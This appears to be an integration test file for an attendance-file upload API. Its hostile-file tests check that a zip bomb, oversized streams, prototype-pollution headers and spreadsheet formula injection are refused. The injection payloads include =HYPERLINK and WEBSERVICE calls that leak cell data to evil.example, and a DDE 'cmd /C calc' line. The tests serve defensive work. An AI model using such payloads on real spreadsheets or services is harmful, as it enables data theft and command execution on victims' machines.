/**
 * Issue 3 §2, §4, §5: uploading filled attendance files (R-TPL-3) and register workbooks, through
 * HTTP on a real database and Redis; hostile files (zip bomb, 50 MB, formulas and `__proto__`
 * headers, `=HYPERLINK` names) answered 4xx with nothing stored and the process still healthy.
 */
import ExcelJS from 'exceljs';
import { DateTime } from 'luxon';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { XLSX_MEDIA_TYPE } from '../../adapters/xlsx/spreadsheet-upload.ts';
import { backendsOf } from '../support/backends.ts';
import { codiceFiscale, createCpoOrganiser, createMembers, pastWebinar, romeAfternoon, type CreatedMember } from '../support/fixtures.ts';
import { eventually, startHarness, type ApiResponse, type Harness } from '../support/harness.ts';
import { alterWorkbook, deflatedZeros, type ZipPart } from '../support/zip.ts';

const MIN = 60_000;
const HEADER = ['Data evento', 'Cognome e nome', 'Codice fiscale', 'Numero di iscrizione', 'Ordine provinciale', 'Ora di ingresso', 'Ora di uscita'];

async function workbook(rows: unknown[][], sheetName = 'Presenze'): Promise<Buffer> {
  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet(sheetName);
  for (const r of rows) ws.addRow(r);
  return Buffer.from(await wb.xlsx.writeBuffer());
}

/** Built once for both backends: 200 MB of zeros deflate to about 200 KB. */
let bombPart: Promise<ZipPart> | null = null;
const zerosSheet = () => (bombPart ??= deflatedZeros('xl/worksheets/sheet1.xml', 200 * 1024 * 1024));

for (const backend of backendsOf(import.meta.url)) {
  describe(`attendance file upload on ${backend}`, () => {
    let h: Harness;
    let keys: Awaited<ReturnType<typeof createCpoOrganiser>>;
    let other: Awaited<ReturnType<typeof createCpoOrganiser>>;
    let members: CreatedMember[];
    let eventId: string;
    const start = romeAfternoon(3); // 14:00 Rome three days ago, three hours
    const rome = DateTime.fromMillis(start, { zone: 'Europe/Rome' });
    const day = rome.toFormat('dd/MM/yyyy');
    const hhmm = (minutes: number) => DateTime.fromMillis(start + minutes * MIN, { zone: 'Europe/Rome' }).toFormat('HH:mm');
    /** A `Date` cell showing the Rome wall clock (its UTC fields), as spreadsheets store times. */
    const wallClock = (minutes: number) => {
      const t = DateTime.fromMillis(start + minutes * MIN, { zone: 'Europe/Rome' });
      return new Date(Date.UTC(t.year, t.month - 1, t.day, t.hour, t.minute));
    };
    const name = (i: number) => `Cognome${i} Nome${i}`;
    let firstFile: Buffer;

    const upload = (body: Uint8Array | string, type = XLSX_MEDIA_TYPE, key = keys.organiser, id = eventId) =>
      h.api('POST', `/v1/events/${id}/attendance-file`, { key, raw: body, headers: { 'content-type': type } });

    async function counts() {
      const { rows } = await h.rt.db.query<{ records: number; deliveries: number; members: number }>(
        `SELECT (SELECT count(*) FROM tracking_records)::int AS records, (SELECT count(*) FROM deliveries)::int AS deliveries,
                (SELECT count(*) FROM members)::int AS members`,
      );
      return rows[0]!;
    }

    /** A 4xx problem+json with the code, nothing stored, and the gateway still answering. */
    async function refusedCleanly(send: () => Promise<ApiResponse>, status: number, code: string) {
      const before = await counts();
      const res = await send();
      expect(res.status, res.text.slice(0, 300)).toBe(status);
      expect(res.headers.get('content-type')).toMatch(/application\/problem\+json/);
      expect(res.body.code).toBe(code);
      expect(await counts()).toEqual(before);
      expect((await h.api('GET', '/healthz')).status).toBe(200);
      expect((await h.api('GET', `/v1/events/${eventId}`, { key: keys.organiser })).status).toBe(200);
      return res;
    }

    beforeAll(async () => {
      h = await startHarness(backend);
      keys = await createCpoOrganiser(h, 'MI');
      other = await createCpoOrganiser(h, 'BG');
      members = await createMembers(h, keys.cn, Array(8).fill('MI'));
      const ev = await h.api('POST', '/v1/events', { key: keys.organiser, body: pastWebinar(start, 3) });
      expect(ev.status, ev.text).toBe(201);
      eventId = ev.body.id;
      // Members 0–5 register; 6 and 7 do not.
      const reg = await h.api('POST', `/v1/events/${eventId}/registrations`, {
        key: keys.organiser,
        body: { registrations: members.slice(0, 6).map((m) => ({ memberId: m.id, email: m.email })) },
      });
      expect(reg.body.registered).toBe(6);
    });

    afterAll(async () => {
      await h?.close();
    });

    it('checks every row, stores the valid ones as evidence with their author, and re-derives (R-TPL-3)', async () => {
      const cf0 = members[0]!.codiceFiscale;
      const badCheck = cf0.slice(0, 15) + (cf0[15] === 'A' ? 'B' : 'A');
      firstFile = await workbook([
        HEADER,
        [day, name(0), cf0, '1000', 'MI', hhmm(0), hhmm(180)], // 2 ok: present throughout
        [wallClock(0), name(1), members[1]!.codiceFiscale, 1001, 'MI', wallClock(0), wallClock(60)], // 3 ok (Excel date-times)
        [wallClock(0), name(1), members[1]!.codiceFiscale, 1001, 'MI', wallClock(70), wallClock(180)], // 4 ok: back after 10 min
        [day, name(2), members[2]!.codiceFiscale, '1002', 'MI', hhmm(45), hhmm(180)], // 5 ok: 45 min late
        [day, name(0), badCheck, '1000', 'MI', hhmm(0), hhmm(180)], // 6 check letter
        [day, 'Sconosciuto', codiceFiscale(9999), '9', 'MI', hhmm(0), hhmm(180)], // 7 unknown member
        [day, name(6), members[6]!.codiceFiscale, '1006', 'MI', hhmm(0), hhmm(180)], // 8 not registered
        [rome.minus({ days: 1 }).toFormat('dd/MM/yyyy'), name(3), members[3]!.codiceFiscale, '1003', 'MI', hhmm(0), hhmm(180)], // 9 another day
        [day, name(3), members[3]!.codiceFiscale, '1003', 'MI', hhmm(120), hhmm(60)], // 10 exit before entry
        [day, name(0), cf0, '1000', 'MI', hhmm(0), hhmm(180)], // 11 the same as row 2
        [day, name(4), members[4]!.codiceFiscale, '1004', 'MI', null, null], // 12 no presence: not a row to reject
      ]);
      const before = await counts();
      const res = await upload(firstFile);
      expect(res.status, res.text).toBe(202);
      expect(res.body).toEqual({
        accepted: 4,
        duplicates: 0,
        empty: 1,
        rejected: [
          { row: 6, code: 'invalid-codice-fiscale', message: expect.any(String) },
          { row: 7, code: 'unknown-member', message: expect.any(String) },
          { row: 8, code: 'not-registered', message: expect.any(String) },
          { row: 9, code: 'outside-event-day', message: expect.any(String) },
          { row: 10, code: 'exit-before-entry', message: expect.any(String) },
          { row: 11, code: 'duplicate-row', message: expect.any(String) },
        ],
      });
      expect(await counts()).toEqual({ ...before, records: before.records + 8, deliveries: before.deliveries + 1 });

      // Evidence: a join and a leave per row, naming the member, with author and the row.
      const { rows } = await h.rt.db.query<{ kind: string; member_id: string; author: string; reason: string; occurred_at: Date; connection_id: string }>(
        `SELECT kind, member_id, author, reason, occurred_at, connection_id FROM tracking_records WHERE event_id = $1 AND source = 'upload' ORDER BY occurred_at, kind`,
        [eventId],
      );
      expect(rows).toHaveLength(8);
      expect(new Set(rows.map((r) => r.author)).size).toBe(1);
      expect(rows[0]!.author).toMatch(/^organiser:[0-9a-f-]{36}$/);
      const m1 = rows.filter((r) => r.member_id === members[1]!.id);
      expect(m1.map((r) => [r.kind, r.occurred_at.getTime() - start])).toEqual([
        ['join', 0],
        ['leave', 60 * MIN],
        ['join', 70 * MIN],
        ['leave', 180 * MIN],
      ]);
      expect(m1.map((r) => r.reason)).toEqual(['attendance file, row 3', 'attendance file, row 3', 'attendance file, row 4', 'attendance file, row 4']);
      // The file itself, byte for byte, in one delivery.
      const d = await h.rt.db.query<{ body: Buffer; headers: Record<string, string> }>(
        `SELECT body, headers FROM deliveries WHERE source = 'upload' ORDER BY id DESC LIMIT 1`,
      );
      expect(Buffer.from(d.rows[0]!.body).equals(firstFile)).toBe(true);
      expect(d.rows[0]!.headers).toMatchObject({ role: 'organiser', format: 'xlsx', sha256: expect.stringMatching(/^[0-9a-f]{64}$/) });

      // Outcomes re-derived from the upload (tolerance 30 min, R-ATT-3).
      const outcomes = await waitForOutcomes(
        h,
        keys.organiser,
        eventId,
        (byMember) => byMember.get(members[0]!.id)?.status === 'credited' && byMember.get(members[2]!.id)?.absentMinutes === 45,
      );
      const byMember = new Map(outcomes.map((o: any) => [o.memberId, o]));
      expect(byMember.get(members[0]!.id)).toMatchObject({ status: 'credited', absentMinutes: 0, credits: 3 });
      expect(byMember.get(members[1]!.id)).toMatchObject({ status: 'credited', absentMinutes: 10, credits: 3 });
      expect(byMember.get(members[2]!.id)).toMatchObject({ status: 'not-qualified', absentMinutes: 45, credits: 0 });
      expect(byMember.get(members[3]!.id)).toMatchObject({ status: 'not-qualified', absentMinutes: 180 });
    });

    it('uploading the same file again changes nothing: 0 accepted, every valid row a duplicate', async () => {
      const before = await counts();
      const res = await upload(firstFile);
      expect(res.status, res.text).toBe(200);
      expect(res.body).toMatchObject({ accepted: 0, duplicates: 4, empty: 1 });
      expect(res.body.rejected.map((r: any) => [r.row, r.code])).toEqual([
        [6, 'invalid-codice-fiscale'],
        [7, 'unknown-member'],
        [8, 'not-registered'],
        [9, 'outside-event-day'],
        [10, 'exit-before-entry'],
        [11, 'duplicate-row'],
      ]);
      expect(await counts()).toEqual(before);
      // The same rows in another file (CSV), sent by the CPO: still duplicates, by member, entry and exit.
      const csv = `Codice fiscale;Ora di ingresso;Ora di uscita;Data evento\n${members[0]!.codiceFiscale};${hhmm(0)};${hhmm(180)};${day}\n`;
      const again = await upload(csv, 'text/csv', keys.cpo);
      expect(again.status, again.text).toBe(200);
      expect(again.body).toMatchObject({ accepted: 0, duplicates: 1, rejected: [] });
      expect(await counts()).toEqual(before);
    });

    it('presence=in-person: its own source (duplicates per source), recorded on a webinar without changing its mode; a bad value is 400 (R-FAD-1)', async () => {
      const start2 = romeAfternoon(5);
      const at = (minutes: number) => DateTime.fromMillis(start2 + minutes * MIN, { zone: 'Europe/Rome' });
      const ev = await h.api('POST', '/v1/events', { key: keys.organiser, body: pastWebinar(start2, 3) });
      expect(ev.status, ev.text).toBe(201);
      const id2 = ev.body.id as string;
      const reg = await h.api('POST', `/v1/events/${id2}/registrations`, { key: keys.organiser, body: { registrations: [{ memberId: members[0]!.id }] } });
      expect(reg.body.registered, reg.text).toBe(1);
      const csv = `Codice fiscale;Data evento;Ora di ingresso;Ora di uscita\n${members[0]!.codiceFiscale};${at(0).toFormat('dd/MM/yyyy')};${at(0).toFormat('HH:mm')};${at(180).toFormat('HH:mm')}\n`;
      const send = (query: string) =>
        h.api('POST', `/v1/events/${id2}/attendance-file${query}`, { key: keys.organiser, raw: csv, headers: { 'content-type': 'text/csv' } });
      const sources = async () =>
        (
          await h.rt.db.query<{ source: string; n: number }>(
            `SELECT source, count(*)::int AS n FROM tracking_records WHERE event_id = $1 GROUP BY source ORDER BY source`,
            [id2],
          )
        ).rows;

      // Not `online` or `in-person`: refused before anything is read or stored.
      await refusedCleanly(() => send('?presence=room'), 400, 'invalid-query');

      const inPerson = await send('?presence=in-person');
      expect(inPerson.status, inPerson.text).toBe(202);
      expect(inPerson.body).toEqual({ accepted: 1, duplicates: 0, empty: 0, rejected: [] });
      expect(await sources()).toEqual([{ source: 'upload:in-person', n: 2 }]);
      const d = await h.rt.db.query<{ headers: Record<string, string> }>(
        `SELECT headers FROM deliveries WHERE source = 'upload:in-person' ORDER BY id DESC LIMIT 1`,
      );
      expect(d.rows[0]!.headers).toMatchObject({ presence: 'in-person', format: 'csv' });

      // The same file with the same presence: a duplicate, nothing stored.
      const before = await counts();
      const again = await send('?presence=in-person');
      expect(again.status, again.text).toBe(200);
      expect(again.body).toMatchObject({ accepted: 0, duplicates: 1 });
      expect(await counts()).toEqual(before);

      // Not a mixed event: the presence is recorded, but the credits keep the event's mode.
      await eventually(async () => {
        const res = await h.api('GET', `/v1/members/${members[0]!.id}/credits`, { key: keys.cpo });
        return res.body.credits?.some((c: { eventId: string }) => c.eventId === id2) ? res : null;
      });
      const credits = await h.api('GET', `/v1/members/${members[0]!.id}/credits`, { key: keys.cpo });
      expect(credits.body.credits.filter((c: { eventId: string }) => c.eventId === id2).map((c: { mode: string }) => c.mode)).toEqual(['webinar']);

      // The same rows without presence (online, the default) are another source: stored once more, then duplicates.
      const online = await send('');
      expect(online.status, online.text).toBe(202);
      expect(online.body).toMatchObject({ accepted: 1, duplicates: 0 });
      expect((await send('?presence=online')).body).toMatchObject({ accepted: 0, duplicates: 1 });
      expect(await sources()).toEqual([
        { source: 'upload', n: 2 },
        { source: 'upload:in-person', n: 2 },
      ]);

      const doc = await h.api('GET', '/openapi.json');
      const params = doc.body.paths['/v1/events/{id}/attendance-file']?.post.parameters as Array<{
        name: string;
        in: string;
        schema: { enum?: string[]; default?: string };
      }>;
      expect(params.find((x) => x.name === 'presence')).toMatchObject({ in: 'query', schema: { enum: ['online', 'in-person'], default: 'online' } });
    });

    it('the exported workbook uploads back cleanly; the blank template, filled in, uploads', async () => {
      const exported = await fetch(`${h.url}/v1/events/${eventId}/attendance.xlsx`, { headers: { authorization: `Bearer ${keys.organiser}` } });
      expect(exported.status).toBe(200);
      const back = await upload(Buffer.from(await exported.arrayBuffer()));
      expect(back.status, back.text).toBe(200);
      expect(back.body).toEqual({ accepted: 0, duplicates: 4, empty: 0, rejected: [] });

      const blank = await fetch(`${h.url}/v1/events/${eventId}/attendance.xlsx?blank=true`, { headers: { authorization: `Bearer ${keys.organiser}` } });
      expect(blank.status).toBe(200);
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(Buffer.from(await blank.arrayBuffer()) as unknown as ExcelJS.Buffer);
      const ws = wb.getWorksheet('Presenze')!;
      const cfColumn = (ws.getRow(1).values as unknown[]).findIndex((v) => v === 'Codice fiscale');
      let filled = 0;
      ws.eachRow((row, n) => {
        if (n > 1 && row.getCell(cfColumn).value === members[3]!.codiceFiscale) {
          row.getCell(cfColumn + 3).value = hhmm(5); // typed as text, as people do
          row.getCell(cfColumn + 4).value = wallClock(175);
          filled++;
        }
      });
      expect(filled).toBe(1);
      const res = await upload(Buffer.from(await wb.xlsx.writeBuffer()));
      expect(res.status, res.text).toBe(202);
      expect(res.body).toEqual({ accepted: 1, duplicates: 0, empty: 5, rejected: [] });
    });

    it('a browser form (multipart/form-data, field `file`) gives the same row report as the raw body, and keeps the filename', async () => {
      // Two events alike, the same members registered: the same file sent raw to one and as a form to the other.
      const start2 = romeAfternoon(6);
      const at = (minutes: number) => DateTime.fromMillis(start2 + minutes * MIN, { zone: 'Europe/Rome' });
      const ids: string[] = [];
      for (let i = 0; i < 2; i++) {
        const ev = await h.api('POST', '/v1/events', { key: keys.organiser, body: pastWebinar(start2, 3) });
        expect(ev.status, ev.text).toBe(201);
        const reg = await h.api('POST', `/v1/events/${ev.body.id}/registrations`, {
          key: keys.organiser,
          body: { registrations: members.slice(0, 3).map((m) => ({ memberId: m.id })) },
        });
        expect(reg.body.registered, reg.text).toBe(3);
        ids.push(ev.body.id);
      }
      const d = at(0).toFormat('dd/MM/yyyy');
      const t = (m: number) => at(m).toFormat('HH:mm');
      const rows = [
        HEADER,
        [d, name(0), members[0]!.codiceFiscale, '1000', 'MI', t(0), t(180)],
        [d, name(1), members[1]!.codiceFiscale, '1001', 'MI', t(0), t(60)],
        [d, name(1), members[1]!.codiceFiscale, '1001', 'MI', t(110), t(180)], // 50 minutes away
        [d, name(6), members[6]!.codiceFiscale, '1006', 'MI', t(0), t(180)], // not registered
        [d, name(2), members[2]!.codiceFiscale, '1002', 'MI', t(120), t(60)], // exit before entry
      ];
      const xlsx = await workbook(rows);
      const csv = rows.map((r) => r.join(';')).join('\n');
      const form = async (bytes: Uint8Array | string, type: string | undefined, filename: string, id: string, field = 'file'): Promise<ApiResponse> => {
        const fd = new FormData();
        fd.append('note', 'a text field beside the file is ignored');
        fd.append(field, new Blob([bytes as BlobPart], type ? { type } : {}), filename);
        const res = await fetch(`${h.url}/v1/events/${id}/attendance-file`, {
          method: 'POST',
          headers: { authorization: `Bearer ${keys.organiser}` },
          body: fd,
        });
        const text = await res.text();
        return { status: res.status, headers: res.headers, body: JSON.parse(text), text };
      };
      const raw = await upload(xlsx, XLSX_MEDIA_TYPE, keys.organiser, ids[0]);
      expect(raw.status, raw.text).toBe(202);
      const viaForm = await form(xlsx, XLSX_MEDIA_TYPE, 'presenze compilate.xlsx', ids[1]!);
      expect(viaForm.status, viaForm.text).toBe(202);
      expect(viaForm.body).toEqual(raw.body);
      expect(raw.body).toEqual({
        accepted: 3,
        duplicates: 0,
        empty: 0,
        rejected: [
          { row: 5, code: 'not-registered', message: expect.any(String) },
          { row: 6, code: 'exit-before-entry', message: expect.any(String) },
        ],
      });
      // The file's bytes are the evidence (not the form around them), with the part's type and filename.
      const delivery = await h.rt.db.query<{ body: Buffer; headers: Record<string, string> }>(
        `SELECT body, headers FROM deliveries WHERE id IN (SELECT delivery_id FROM tracking_records WHERE event_id = $1 AND source = 'upload')`,
        [ids[1]],
      );
      expect(delivery.rows).toHaveLength(1);
      expect(Buffer.from(delivery.rows[0]!.body).equals(xlsx)).toBe(true);
      expect(delivery.rows[0]!.headers).toMatchObject({
        'content-type': XLSX_MEDIA_TYPE,
        format: 'xlsx',
        'content-disposition': 'form-data; name="file"; filename="presenze compilate.xlsx"',
      });
      // The same rows as CSV in a form whose part has no type: sniffed, and duplicates of what is stored.
      const csvForm = await form(csv, undefined, 'presenze.csv', ids[1]!);
      expect(csvForm.status).toBe(200);
      expect(csvForm.body).toEqual({ ...raw.body, accepted: 0, duplicates: 3 });
      // Both derive the same outcomes: member 1 absent 50 minutes, beyond the 30 of tolerance (R-ATT-3).
      for (const id of ids) {
        const outcomes = await waitForOutcomes(h, keys.organiser, id, (byMember) => byMember.get(members[1]!.id)?.absentMinutes === 50);
        const byMember = new Map(outcomes.map((o: any) => [o.memberId, o]));
        expect(byMember.get(members[0]!.id)).toMatchObject({ status: 'credited', absentMinutes: 0 });
        expect(byMember.get(members[1]!.id)).toMatchObject({ status: 'not-qualified', absentMinutes: 50 });
      }

      // Refused forms, nothing stored: no field `file`, a file of the wrong type, and over the limit.
      const noFile = await refusedCleanly(() => form(xlsx, XLSX_MEDIA_TYPE, 'x.xlsx', ids[1]!, 'attachment'), 400, 'invalid-form');
      expect(noFile.body.detail).toMatch(/`file`/);
      await refusedCleanly(() => form('{}', 'application/json', 'x.json', ids[1]!), 415, 'unsupported-media-type');
      await refusedCleanly(() => form(Buffer.alloc(h.config.UPLOAD_MAX_BYTES + 1, 0x41), 'text/csv', 'big.csv', ids[1]!), 413, 'file-too-large');
    });

    it('who may upload, and what', async () => {
      const file = await workbook([HEADER, [day, name(5), members[5]!.codiceFiscale, '1005', 'MI', hhmm(0), hhmm(10)]]);
      expect((await upload(file, XLSX_MEDIA_TYPE, other.organiser)).status).toBe(404); // another organiser's event
      expect((await upload(file, XLSX_MEDIA_TYPE, keys.platform)).status).toBe(403);
      expect((await upload(file, XLSX_MEDIA_TYPE, '')).status).toBe(401);
      const json = await upload(file, 'application/json');
      expect([json.status, json.body.code]).toEqual([415, 'unsupported-media-type']);
      const missing = await upload(
        await workbook([
          ['Codice fiscale', 'Ora di ingresso'],
          [members[5]!.codiceFiscale, '14:00'],
        ]),
      );
      expect([missing.status, missing.body.code, missing.body.missing]).toEqual([422, 'missing-columns', ['Ora di uscita']]);
      // Documented in the OpenAPI document, both formats.
      const doc = await h.api('GET', '/openapi.json');
      const op = doc.body.paths['/v1/events/{id}/attendance-file']?.post;
      expect(Object.keys(op.requestBody.content)).toEqual([XLSX_MEDIA_TYPE, 'text/csv', 'multipart/form-data']);
      expect(op.requestBody.content['multipart/form-data'].schema).toMatchObject({
        properties: { file: { type: 'string', format: 'binary' } },
        required: ['file'],
      });
      expect(Object.keys(op.responses)).toEqual(expect.arrayContaining(['200', '202', '413', '422']));
    });

    describe('hostile files: clear 4xx, nothing stored, the process healthy', () => {
      it('a zip bomb: a sheet of 200 MB of zeros', async () => {
        const bomb = await zerosSheet();
        const file = await alterWorkbook(await workbook([HEADER]), (parts) => void parts.set(bomb.name, bomb));
        expect(file.length).toBeLessThan(1024 * 1024);
        const res = await refusedCleanly(() => upload(file), 413, 'zip-bomb');
        expect(res.body.detail).toMatch(/expands to more than/);
        // Lying about its size: found while inflating, at the first byte past the declared size.
        const liar = await alterWorkbook(await workbook([HEADER]), (parts) => void parts.set(bomb.name, { ...bomb, declaredSize: 500_000 }));
        await refusedCleanly(() => upload(liar), 413, 'zip-bomb');
        // The register import reads with the same guard.
        await refusedCleanly(
          () => h.api('POST', '/v1/members/import', { key: keys.cn, raw: file, headers: { 'content-type': XLSX_MEDIA_TYPE } }),
          413,
          'zip-bomb',
        );
      });

      it('a 50 MB file: 413 from its declared length, or while it streams', async () => {
        const fifty = Buffer.alloc(50 * 1024 * 1024, 0x41);
        await refusedCleanly(() => upload(fifty), 413, 'file-too-large');
        // Chunked, no Content-Length: generated as it is sent, cut off after 10 MiB.
        let sent = 0;
        await refusedCleanly(
          async () => {
            const body = new ReadableStream<Uint8Array>({
              pull(c) {
                if (sent >= 50 * 1024 * 1024) return c.close();
                sent += 1024 * 1024;
                c.enqueue(new Uint8Array(1024 * 1024));
              },
            });
            const res = await fetch(`${h.url}/v1/events/${eventId}/attendance-file`, {
              method: 'POST',
              headers: { authorization: `Bearer ${keys.organiser}`, 'content-type': 'text/csv' },
              body,
              duplex: 'half',
            } as RequestInit & { duplex: 'half' });
            const text = await res.text();
            return { status: res.status, headers: res.headers, body: JSON.parse(text), text };
          },
          413,
          'file-too-large',
        );
      });

      it('a workbook with formulas and __proto__ / constructor headers: nothing evaluated, nothing polluted', async () => {
        const prototypeBefore = Object.getOwnPropertyNames(Object.prototype).sort();
        const withFormulas = await workbook([
          ['__proto__', 'constructor', 'prototype', 'Codice fiscale', 'Ora di ingresso', 'Ora di uscita'],
          [
            '{"polluted":"yes"}',
            '{"prototype":{"polluted":"yes"}}',
            'polluted',
            members[5]!.codiceFiscale,
            { formula: 'NOW()', result: 0.6 },
            { formula: 'WEBSERVICE("http://evil.example")' },
          ],
        ]);
        const res = await refusedCleanly(() => upload(withFormulas), 422, 'formula-not-allowed');
        expect(res.body.cell).toBe('Presenze!E2');
        const headersOnly = await workbook([
          ['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString'],
          ['{"polluted":"yes"}', 'polluted', 'polluted', 'x', 'y'],
        ]);
        await refusedCleanly(() => upload(headersOnly), 422, 'missing-columns');
        const imp = (file: Buffer) => h.api('POST', '/v1/members/import', { key: keys.cn, raw: file, headers: { 'content-type': XLSX_MEDIA_TYPE } });
        await refusedCleanly(() => imp(withFormulas), 422, 'formula-not-allowed');
        await refusedCleanly(() => imp(headersOnly), 422, 'missing-columns');
        expect(({} as any).polluted).toBeUndefined();
        expect((Object.prototype as any).polluted).toBeUndefined();
        expect(Object.getOwnPropertyNames(Object.prototype).sort()).toEqual(prototypeBefore);
      });

      it('a CSV with =HYPERLINK(...) names: kept as text, never evaluated, every row refused', async () => {
        const csv = [
          'Cognome e nome;Codice fiscale;Ora di ingresso;Ora di uscita',
          `"=HYPERLINK(""http://evil.example/?leak=""&B2;""Clicca qui"")";${members[5]!.codiceFiscale};${hhmm(0)};${hhmm(30)}`,
          `=HYPERLINK("http://evil.example","x");${members[4]!.codiceFiscale};${hhmm(0)};${hhmm(30)}`,
          `@SUM(1+1)*cmd|' /C calc'!A0;${members[3]!.codiceFiscale};${hhmm(0)};${hhmm(30)}`,
        ].join('\r\n');
        const res = await refusedCleanly(() => upload(csv, 'text/csv'), 422, 'no-valid-rows');
        expect(res.body.rejected.map((r: any) => [r.row, r.code])).toEqual([
          [2, 'formula-like-text'],
          [3, 'formula-like-text'],
          [4, 'formula-like-text'],
        ]);
        expect(res.text).not.toContain('evil.example'); // never echoed back
        // The names the gateway knows come from the register, not from files.
        const m = await h.api('GET', `/v1/members/${members[5]!.id}`, { key: keys.cn });
        expect([m.body.surname, m.body.givenName]).toEqual(['Cognome5', 'Nome5']);
      });

      it('afterwards a normal upload still works', async () => {
        const res = await upload(`Codice fiscale,Ora di ingresso,Ora di uscita\n${members[5]!.codiceFiscale},${hhmm(0)},${hhmm(20)}\n`, 'text/csv');
        expect(res.status, res.text).toBe(202);
        expect(res.body).toEqual({ accepted: 1, duplicates: 0, empty: 0, rejected: [] });
      });
    });

    it('after closing, only the CPO may upload (R-EVT-7)', async () => {
      const closed = await h.api('POST', `/v1/events/${eventId}/close`, { key: keys.organiser });
      expect(closed.status, closed.text).toBe(200);
      const file = `Codice fiscale;Ora di ingresso;Ora di uscita\n${members[4]!.codiceFiscale};${hhmm(100)};${hhmm(110)}\n`;
      const organiser = await upload(file, 'text/csv');
      expect([organiser.status, organiser.body.code]).toEqual([409, 'event-closed']);
      const cpo = await upload(file, 'text/csv', keys.cpo);
      expect(cpo.status, cpo.text).toBe(202);
      expect(cpo.body.accepted).toBe(1);
      const { rows } = await h.rt.db.query<{ author: string }>(
        `SELECT author FROM tracking_records WHERE event_id = $1 AND source = 'upload' AND member_id = $2`,
        [eventId, members[4]!.id],
      );
      expect(rows.map((r) => r.author)).toEqual([expect.stringMatching(/^cpo:/), expect.stringMatching(/^cpo:/)]);
    });

    it('member register import from an .xlsx, with the same row report as the CSV (issue 3 §4)', async () => {
      const cfNew = codiceFiscale(5001);
      const cfNum = codiceFiscale(5002);
      const file = await workbook(
        [
          ['codice_fiscale', 'cognome', 'nome', 'provincia', 'numero_iscrizione', 'data_nascita', 'data_iscrizione', 'email'],
          [cfNew, "D'Àmico Niccolò", 'Maria Grazia', 'mi', 'X-77', new Date(Date.UTC(1980, 4, 17)), '01/02/2010', 'maria@studio.example.it'],
          [cfNew.slice(0, 15) + (cfNew[15] === 'A' ? 'B' : 'A'), 'Rossi', 'Mario', 'MI', '78', '1980-01-01', '2010-01-01', null],
          [cfNum, 'Bianchi', 'Anna', 'MI', 5002, 29000, 40179, null], // register number and dates as numbers (Excel serials)
          [codiceFiscale(5003), 'Verdi', 'Luca', 'ZZ', '79', '1980-01-01', '2010-01-01', null],
        ],
        'Albo',
      );
      const res = await h.api('POST', '/v1/members/import', { key: keys.cn, raw: file, headers: { 'content-type': XLSX_MEDIA_TYPE } });
      expect(res.status, res.text).toBe(200);
      expect(res.body).toEqual({
        created: 2,
        updated: 0,
        unchanged: 0,
        rejected: [
          { row: 3, code: 'invalid-codice-fiscale', message: expect.any(String) },
          { row: 5, code: 'unknown-province', message: expect.any(String) },
        ],
      });
      const m = await h.api('GET', `/v1/members?codiceFiscale=${cfNew}`, { key: keys.cn });
      expect(m.body).toMatchObject({
        surname: "D'Àmico Niccolò",
        givenName: 'Maria Grazia',
        province: 'MI',
        registerNumber: 'X-77',
        birthDate: '1980-05-17',
        registrationDate: '2010-02-01',
      });
      const n = await h.api('GET', `/v1/members?codiceFiscale=${cfNum}`, { key: keys.cn });
      expect(n.body).toMatchObject({ registerNumber: '5002', birthDate: '1979-05-25', registrationDate: '2010-01-01' });
      // Importing it again changes nothing; a CPO of another province gets its rows refused.
      const again = await h.api('POST', '/v1/members/import', { key: keys.cn, raw: file, headers: { 'content-type': XLSX_MEDIA_TYPE } });
      expect(again.body).toMatchObject({ created: 0, updated: 0, unchanged: 2 });
      const bg = await h.api('POST', '/v1/members/import', { key: await h.key('cpo', 'BG'), raw: file, headers: { 'content-type': XLSX_MEDIA_TYPE } });
      expect(bg.status).toBe(200);
      expect(bg.body.rejected.filter((r: any) => r.code === 'province-not-allowed').map((r: any) => r.row)).toEqual([2, 4]);
    });
  });
}

async function waitForOutcomes(h: Harness, key: string, eventId: string, ready: (byMember: Map<string, any>) => boolean) {
  return eventually(async () => {
    const res = await h.api('GET', `/v1/events/${eventId}/outcomes?limit=5000`, { key });
    if (res.status !== 200 || !res.body.lastDerivation) return null;
    const byMember = new Map<string, any>(res.body.outcomes.filter((o: any) => o.memberId).map((o: any) => [o.memberId, o]));
    return ready(byMember) ? (res.body.outcomes as any[]) : null;
  });
}
